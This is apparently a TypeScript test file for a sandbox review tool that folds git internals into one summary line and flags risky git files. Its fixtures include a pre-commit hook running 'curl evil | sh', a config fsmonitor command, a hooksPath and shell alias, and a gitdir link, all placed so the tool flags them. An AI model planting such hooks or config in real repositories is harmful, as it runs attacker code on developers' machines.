// The review's git line: a repository's own files (objects, refs, logs, index) are one line
// saying which branches moved and by how many commits, read from the layer's files; what can
// run code or change trust there (hooks, config, info/, a .git file, alternates, .gitattributes)
// stays listed and flagged. Folding changes only the summary: the change list, --json,
// --name-only, --all and pick still have every entry.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { makeFixture, markStarted, whiteout, write, type Fixture } from './changes-fixture.js';
import { scanSandbox, scanSandboxAsync } from '../../sandbox-core/changes/scan.js';
import { changesJson, renderDiffs, renderSummary, summaryPlan, DIFF_MAX_BYTES } from '../../cli/render-changes.js';
import { summaryMarker } from '../../cli/summary-marker.js';
import { DiffFolds } from '../../cli/render-diff-folds.js';
import { gitRepoOf } from '../../sandbox-core/changes/repo-fold.js';
import type { Change } from '../../sandbox-core/changes/types.js';

const plain = { green: (s: string) => s, red: (s: string) => s, yellow: (s: string) => s, cyan: (s: string) => s, magenta: (s: string) => s, dim: (s: string) => s, bold: (s: string) => s };
let f: Fixture;
test.before.each(() => { f = makeFixture(); });
test.after.each(() => f.cleanup());

const A = 'a'.repeat(40), B = 'b'.repeat(40), C = 'c'.repeat(40), D = 'd'.repeat(40);
const obj = (h: string) => `objects/${h.slice(0, 2)}/${h.slice(2)}`;
const reflog = (from: string, to: string, msg: string) => `${from} ${to} A U Thor <a@b> 1700000000 +0000\t${msg}\n`;

/** A host repository at host/repo on master at A, with one reflog line. */
function hostRepo(): { H: (p: string) => string; U: (p: string) => string } {
  const H = (p: string) => join(f.host, 'repo/.git', p);
  const U = (p: string) => join(f.upper(), 'repo/.git', p);
  write(H('HEAD'), 'ref: refs/heads/master\n');
  write(H('refs/heads/master'), `${A}\n`);
  write(H('logs/refs/heads/master'), reflog('0'.repeat(40), A, 'commit (initial): one'));
  write(H('logs/HEAD'), reflog('0'.repeat(40), A, 'commit (initial): one'));
  write(H('index'), 'DIRC1');
  write(H(obj(A)), 'x');
  write(join(f.host, 'repo/a.txt'), 'hi\n');
  return { H, U };
}

/** `git commit` twice, `git checkout -b feature`, one more commit, and a hook, in the sandbox. */
function commitsAndHook(H: (p: string) => string, U: (p: string) => string): void {
  write(U('refs/heads/master'), `${C}\n`);
  write(U('logs/refs/heads/master'), reflog('0'.repeat(40), A, 'commit (initial): one') + reflog(A, B, 'commit: two') + reflog(B, C, 'commit: three'));
  write(U('refs/heads/feature'), `${D}\n`);
  write(U('logs/refs/heads/feature'), reflog('0'.repeat(40), C, 'branch: Created from HEAD') + reflog(C, D, 'commit: four'));
  write(U('HEAD'), 'ref: refs/heads/feature\n');
  write(U('logs/HEAD'), `${reflog('0'.repeat(40), A, 'commit (initial): one')}x\n`);
  write(U('index'), 'DIRC2');
  write(U('COMMIT_EDITMSG'), 'four\n');
  for (const h of [B, C, D, '1'.repeat(40), '2'.repeat(40)]) write(U(obj(h)), 'y');
  write(U('hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n', 0o755);
  write(join(f.upper(), 'repo/b.txt'), 'two\n');
  void H;
}

test('a commit, a new branch and a hook: one git line with the moves; the hook listed and flagged', () => {
  const { H, U } = hostRepo();
  markStarted(f);
  commitsAndHook(H, U);
  const { changes } = scanSandbox(f.meta);
  const out = renderSummary(changes, plain);
  const R = `${f.host}/repo`;
  assert.ok(out.includes(`  modified: ${R}: git: feature new ddddddd (1 commit), master aaaaaaa -> ccccccc (2 commits), HEAD -> feature, 5 objects, COMMIT_EDITMSG, hooks, index (`), out);
  assert.match(out, /^! added: {4}.*\/repo\/\.git\/hooks\/pre-commit \[! git hook\]$/m);
  assert.ok(out.includes(`  added:    ${R}/b.txt\n`), out);
  // No git internals listed one by one.
  assert.not.match(out, /\.git\/(objects|refs|logs|index|COMMIT_EDITMSG)/);
  // The change list, --json and --all still have every entry.
  const inGit = changes.filter((c) => c.path.includes('/.git/'));
  assert.ok(inGit.length > 12);
  assert.is(JSON.parse(changesJson('x', changes)).changes.length, changes.length);
  const all = renderSummary(changes, plain, { expand: true });
  for (const c of changes) assert.ok(all.includes(c.path), c.path);
  // Pick: every change is behind exactly one line; the git line stands for the repo's unflagged entries.
  const items = summaryPlan(changes, plain).kinds.flatMap((k) => k.items);
  assert.is(items.reduce((n, i) => n + i.paths().length, 0), changes.length);
  const git = items.find((i) => i.label.startsWith(`${R}: git:`))!;
  assert.equal(git.paths().sort(), inGit.filter((c) => !c.path.endsWith('/hooks/pre-commit')).map((c) => c.path).sort());
});

test('the full review (columns marked while the helper walks) folds and flags the same', async () => {
  const { H, U } = hostRepo();
  markStarted(f);
  commitsAndHook(H, U);
  const marker = summaryMarker({});
  const scan = await scanSandboxAsync(f.meta, { readNewUpTo: 1 << 20, columns: true, markColumn: marker.mark });
  assert.ok(scan.named && scan.named.length > 0);
  const out = renderSummary(scan.changes, plain, { marker }, scan.named);
  assert.ok(out.includes('master aaaaaaa -> ccccccc (2 commits)'), out);
  assert.ok(out.includes(', 5 objects,'), out);
  assert.match(out, /^! added: {4}.*\/repo\/\.git\/hooks\/pre-commit \[! git hook\]$/m);
  assert.not.match(out, /\.git\/objects/);
  assert.is(out.split('\n').filter((l) => l.startsWith('  ')).length, 2, out);
});

test('git gc: loose refs packed and loose objects gone still say where the branch went', () => {
  const { H, U } = hostRepo();
  markStarted(f);
  mkdirSync(U('refs/heads'), { recursive: true });
  whiteout(U('refs/heads/master'));
  write(U('packed-refs'), `# pack-refs with: peeled fully-peeled sorted \n${B} refs/heads/master\n${A} refs/tags/v1\n^${C}\n`);
  mkdirSync(U('objects'), { recursive: true });
  whiteout(U(A.slice(0, 2).replace(/^/, 'objects/')));
  write(U('objects/pack/pack-1.pack'), 'PACK');
  write(U('objects/pack/pack-1.idx'), 'IDX');
  write(U('info/refs'), `${B}\trefs/heads/master\n`);
  void H;
  const { changes } = scanSandbox(f.meta);
  const out = renderSummary(changes, plain);
  assert.ok(out.includes(`${f.host}/repo: git: master aaaaaaa -> bbbbbbb, tag v1 new aaaaaaa, 1 pack, 1 object entry removed, info (`), out);
  assert.not.match(out, /^\s*deleted/m);
});

test('moved tags and remote refs are named, not counted (a remote ref moved to a forged commit was `1 other ref`)', () => {
  const { H, U } = hostRepo();
  write(H('refs/remotes/origin/master'), `${A}\n`);
  write(H('refs/tags/old'), `${A}\n`);
  markStarted(f);
  write(U('refs/remotes/origin/master'), `${D}\n`);
  write(U('refs/remotes/origin/topic'), `${B}\n`);
  for (const t of ['t1', 't2', 't3', 't4']) write(U(`refs/tags/${t}`), `${C}\n`);
  mkdirSync(U('refs/tags'), { recursive: true });
  whiteout(U('refs/tags/old'));
  write(U('refs/notes/commits'), `${B}\n`);
  // A clone's symbolic ref by the ref it names (it read `remote origin/HEAD new ?`).
  write(U('refs/remotes/origin/HEAD'), 'ref: refs/remotes/origin/master\n');
  const out = renderSummary(scanSandbox(f.meta).changes, plain);
  assert.ok(out.includes(`${f.host}/repo: git: tag old deleted, tag t1 new ccccccc, tag t2 new ccccccc, 2 more tags, remote origin/HEAD new -> origin/master, remote origin/master aaaaaaa -> ddddddd, remote origin/topic new bbbbbbb, refs/notes/commits new bbbbbbb (`), out);
  assert.not.match(out, /!/);
});

test('a new repository is one added line; what git init writes that can run code is flagged, its sample hooks are not', () => {
  const U = (p: string) => join(f.upper(), 'new/.git', p);
  markStarted(f);
  write(U('HEAD'), 'ref: refs/heads/main\n');
  write(U('refs/heads/main'), `${A}\n`);
  write(U('logs/refs/heads/main'), reflog('0'.repeat(40), A, 'commit (initial): x'));
  write(U(obj(A)), 'x');
  write(U('description'), 'd\n');
  write(U('config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n');
  write(U('hooks/update.sample'), '#!/bin/sh\n');
  write(U('info/exclude'), '# x\n*.o\n');
  write(join(f.upper(), 'new/x'), 'x\n');
  const { changes } = scanSandbox(f.meta);
  const out = renderSummary(changes, plain);
  assert.ok(out.includes(`  added:    ${f.host}/new: new git repository: main aaaaaaa (1 commit), HEAD -> main, 1 object, description, hooks, info (`), out);
  assert.match(out, /\/new\/\.git\/config \[! git configuration/);
  // git runs no `.sample` hook: the samples fold with the rest, unflagged.
  assert.not.match(out, /update\.sample/);
  assert.match(out, /\/new\/\.git\/info\/exclude \[! git repository settings/);
});

test('never folded: config, info/*, a .git file, alternates, commondir, submodule hooks and config, .gitattributes', () => {
  const { U } = hostRepo();
  markStarted(f);
  write(U('config'), '[core]\n\thooksPath = /tmp/h\n[alias]\n\tst = !sh -c x\n');
  write(U('info/attributes'), '* filter=x\n');
  write(U('info/grafts'), `${A}\n`);
  write(U('objects/info/alternates'), '/tmp/other/objects\n');
  write(U('modules/sub/hooks/post-checkout'), '#!/bin/sh\n', 0o755);
  write(U('modules/sub/config'), '[core]\n');
  write(U('worktrees/w/commondir'), '../..\n');
  write(U('worktrees/w/config.worktree'), '[core]\n');
  write(join(f.upper(), 'repo/.gitattributes'), '*.c filter=run\n');
  write(join(f.upper(), 'other/.git'), 'gitdir: /tmp/evil\n');
  write(join(f.upper(), 'repo/node_modules/p/.gitattributes'), '* text\n');
  write(U(obj(B)), 'y');
  const { changes } = scanSandbox(f.meta);
  const out = renderSummary(changes, plain);
  const flaggedAt: Array<[string, string]> = [
    ['repo/.git/config', 'git configuration'], ['repo/.git/info/attributes', 'git repository settings'], ['repo/.git/info/grafts', 'git repository settings'],
    ['repo/.git/objects/info/alternates', 'git dir link'], ['repo/.git/modules/sub/hooks/post-checkout', 'git hook'],
    ['repo/.git/modules/sub/config', 'git configuration'], ['repo/.git/worktrees/w/commondir', 'git dir link'],
    ['repo/.git/worktrees/w/config.worktree', 'git configuration'], ['repo/.gitattributes', 'git attributes'], ['other/.git', 'git dir link'],
  ];
  for (const [p, why] of flaggedAt) assert.match(out, new RegExp(`^! (added|modified): +${f.host}/${p.replace(/\./g, '\\.')} \\[! ${why}`, 'm'), `${p}\n${out}`);
  assert.not.match(out, /node_modules\/p\/\.gitattributes \[!/);
  assert.ok(out.includes(`${f.host}/repo: git: 1 object, info, modules, worktrees (`), out);
});

test('hostile refs: escaped names, symlinks not followed, bounded reads', () => {
  const { U } = hostRepo();
  markStarted(f);
  // A branch name with a terminal escape (packed-refs text is the sandbox's).
  write(U('packed-refs'), `${B} refs/heads/x\x1b[31mred\n${'z'.repeat(2 << 20)}\n${C} refs/heads/late\n`);
  // A loose ref that is a symlink to a host file: not read through.
  mkdirSync(U('refs/heads'), { recursive: true });
  symlinkSync('/etc/hostname', U('refs/heads/master'));
  const { changes } = scanSandbox(f.meta);
  const out = renderSummary(changes, plain);
  assert.not.ok(out.includes('\x1b'), JSON.stringify(out));
  assert.ok(out.includes('x\\x1b[31mred new bbbbbbb'), out);
  // Past the 1 MiB read: not seen, not guessed.
  assert.not.ok(out.includes('late'), out);
  // The symlinked ref is no hash: master's new value is unknown, never the host file's text.
  assert.ok(out.includes('master aaaaaaa -> ?'), out);
});

test('a git dir deleted whole is not folded: its line says what the host held', () => {
  hostRepo();
  markStarted(f);
  mkdirSync(join(f.upper(), 'repo'));
  whiteout(join(f.upper(), 'repo/.git'));
  const { changes } = scanSandbox(f.meta);
  const out = renderSummary(changes, plain);
  assert.match(out, new RegExp(`^ {2}deleted: {2}${f.host}/repo/\\.git/ \\(\\d+ entries, `, 'm'), out);
  assert.not.ok(out.includes('folded'), out);
});

test('counts are written as the summary writes counts', () => {
  const changes: Change[] = [];
  for (let i = 0; i < 1200; i++) changes.push({ path: `/r/.git/objects/${(i % 256).toString(16).padStart(2, '0')}/${i.toString(16).padStart(38, '0')}`, change: 'added', type: 'file', size: 1 });
  changes.sort((a, b) => (a.path < b.path ? -1 : 1));
  const out = renderSummary(changes, plain);
  assert.ok(out.includes('  added:    /r: git: 1,200 objects (1,200 entries, 1.2 KiB), folded\n'), out);
});

test('which repository a path belongs to', () => {
  assert.is(gitRepoOf('/a/.git'), '/a');
  assert.is(gitRepoOf('/a/.git/objects/x'), '/a');
  assert.is(gitRepoOf('/a/.git/modules/m/HEAD'), '/a');
  assert.is(gitRepoOf('/.git/HEAD'), '/');
  assert.is(gitRepoOf('/a/.github/x'), null);
  assert.is(gitRepoOf('/a/.gitignore'), null);
  assert.is(gitRepoOf('/a/b/.git/x'), '/a/b');
});

test('deleted repository entries without a modified one go with the kind they have', () => {
  const ch = (path: string, change: Change['change']): Change => ({ path, change, type: 'file', size: 1 });
  const out = renderSummary([ch('/r/.git/objects/aa/' + 'b'.repeat(38), 'deleted'), ch('/r/x', 'added')], plain);
  assert.ok(out.includes('Deleted (1):\n  deleted:  /r: git: 1 object entry removed (1 entry), folded\n'), out);
});


/** What `git init` 2.39 writes in config and info/exclude. */
const INIT_CONFIG = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n';
const TEMPLATE_EXCLUDE = "# git ls-files --others --exclude-from=.git/info/exclude\n# Lines that start with '#' are comments.\n# *.[oa]\n# *~\n";

test("git init's own config and info/exclude fold into the repository line, unflagged (changes and columns)", async () => {
  const U = (p: string) => join(f.upper(), 'new/.git', p);
  markStarted(f);
  write(U('HEAD'), 'ref: refs/heads/main\n');
  write(U('config'), `${INIT_CONFIG}[remote "origin"]\n\turl = /srv/x\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n`);
  write(U('info/exclude'), TEMPLATE_EXCLUDE);
  write(U('description'), 'd\n');
  const { changes } = scanSandbox(f.meta);
  const out = renderSummary(changes, plain);
  assert.not.match(out, /\[!/, out);
  assert.ok(out.includes(`  added:    ${f.host}/new: new git repository: HEAD -> main, config, description, info (`), out);
  const marker = summaryMarker({});
  const scan = await scanSandboxAsync(f.meta, { readNewUpTo: 1 << 20, columns: true, markColumn: marker.mark });
  assert.ok(scan.named && scan.named.length > 0);
  assert.is(renderSummary(scan.changes, plain, { marker }, scan.named), out);
});

/** A commit in the host repository, a hook, a bytecode file and a work file, in the sandbox. */
function workload(): void {
  const { H, U } = hostRepo();
  markStarted(f);
  commitsAndHook(H, U);
  write(U('config'), INIT_CONFIG);
  write(join(f.upper(), 'repo/__pycache__/m.cpython-311.pyc'), 'bytecode\n');
  write(join(f.upper(), 'repo/a.txt'), 'hi\nthere\n');
}

const diffNames = (text: string): string[] => text.split('\n').filter((l) => l.startsWith('diff ')).map((l) => l.slice(5).replace(/ \([^)]*\)$/, '').slice(f.host.length + 1));

test("sbx diff: what the summary folds gets no diff, one line per group says so; flagged files keep theirs", async () => {
  workload();
  const ref = 'trial';
  const R = `${f.host}/repo`;
  const want = ['repo/.git/hooks/pre-commit', 'repo/a.txt', 'repo/b.txt'];
  const tail = [
    `${R}: 14 diffs of git's own files left out (to see them: sbx diff trial ${R}/.git)`,
    'python bytecode: 1 diff left out (to see them: sbx diff trial --all)',
  ];
  // The change list (no columns).
  const { changes } = scanSandbox(f.meta);
  const marker = summaryMarker({});
  const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref, sbx: 'sbx' }));
  assert.equal(diffNames(text), want, text);
  assert.ok(text.includes('+curl evil | sh'), text);
  // A new program's header says its mode, as git's `new file mode 100755`.
  assert.ok(text.includes(`diff ${R}/.git/hooks/pre-commit (added, mode 755)\n`), text);
  assert.ok(text.endsWith(`${tail.join('\n')}\n`), text);
  // The full review's scan: columns marked and their texts kept while the helper walks.
  const scan = await scanSandboxAsync(f.meta, { readNewUpTo: DIFF_MAX_BYTES, columns: true, markColumn: marker.mark, keepTexts: true });
  assert.ok(scan.named && scan.named.length > 10);
  const cols = await renderDiffs(scan.changes, plain, scan.named, new DiffFolds({ marker, ref, sbx: 'sbx' }));
  assert.is(cols, text);
  // Without folds (--all) every text file has its diff, as before.
  const all = await renderDiffs(changes, plain);
  assert.ok(diffNames(all).length > 15, all);
  assert.ok(diffNames(all).includes('repo/.git/logs/HEAD'), all);
  assert.not.match(all, /left out/);
});

test('sbx diff PATH or --only inside the fold shows its diffs; a PATH above it does not', async () => {
  workload();
  const marker = summaryMarker({});
  const { changes } = scanSandbox(f.meta);
  const R = `${f.host}/repo`;
  const named = async (o: { paths?: string[]; only?: string[] }) => diffNames(await renderDiffs(changes, plain, undefined, new DiffFolds({ marker, ref: 'x', sbx: 'sbx', ...o })));
  assert.ok((await named({ paths: [`${R}/.git`] })).includes('repo/.git/logs/HEAD'));
  assert.not.ok((await named({ paths: [`${R}/.git/logs/`] })).includes('repo/.git/COMMIT_EDITMSG'));
  assert.ok((await named({ paths: [`${R}/.git/logs/`] })).includes('repo/.git/logs/HEAD'));
  assert.ok((await named({ only: ['.git/logs'] })).includes('repo/.git/logs/HEAD'));
  assert.ok((await named({ only: ['__pycache__'] })).includes('repo/__pycache__/m.cpython-311.pyc'));
  assert.not.ok((await named({ only: ['__pycache__'] })).includes('repo/.git/logs/HEAD'));
  assert.equal(await named({ paths: [R] }), ['repo/.git/hooks/pre-commit', 'repo/a.txt', 'repo/b.txt']);
  assert.equal(await named({ only: [`${R}/**`] }), ['repo/.git/hooks/pre-commit', 'repo/a.txt', 'repo/b.txt']);
});

test('the hint line escapes names and quotes the path for the shell', async () => {
  const U = (p: string) => join(f.upper(), "it's \x1b[31m/.git", p);
  markStarted(f);
  write(U('logs/HEAD'), reflog('0'.repeat(40), A, 'commit (initial): x'));
  const { changes } = scanSandbox(f.meta);
  const text = await renderDiffs(changes, plain, undefined, new DiffFolds({ marker: summaryMarker({}), ref: 'a\x1bb', sbx: 'sudo SBX_HOME=/s sbx' }));
  assert.not.ok(text.includes('\x1b'), JSON.stringify(text));
  assert.ok(text.includes(`(to see them: sudo SBX_HOME=/s sbx diff 'a\\x1bb' '${f.host}/it'\\''s \\x1b[31m/.git')\n`), text);
});

test.run();
